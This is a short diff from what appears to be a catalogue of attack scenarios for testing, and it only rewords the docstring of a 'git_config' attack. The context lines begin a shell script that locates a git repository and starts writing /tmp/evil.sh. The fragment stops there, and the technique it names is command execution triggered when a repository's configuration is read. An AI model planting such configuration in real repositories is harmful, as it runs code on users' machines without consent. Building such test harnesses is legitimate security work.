@@ -137,7 +137,7 @@ def unwritable_workspace(t: Target) -> Plays:
 
 @attack("git", "shell")
 def git_config(t: Target) -> Plays:
-    """A repository whose configuration runs commands when somebody looks at it."""
+    """A repository whose configuration runs commands when it is read."""
     script = """\
 repo=$(dirname $(find . -name .git -maxdepth 3 | head -1)); cd "$repo" || exit 0
 cat > /tmp/evil.sh <<'END'
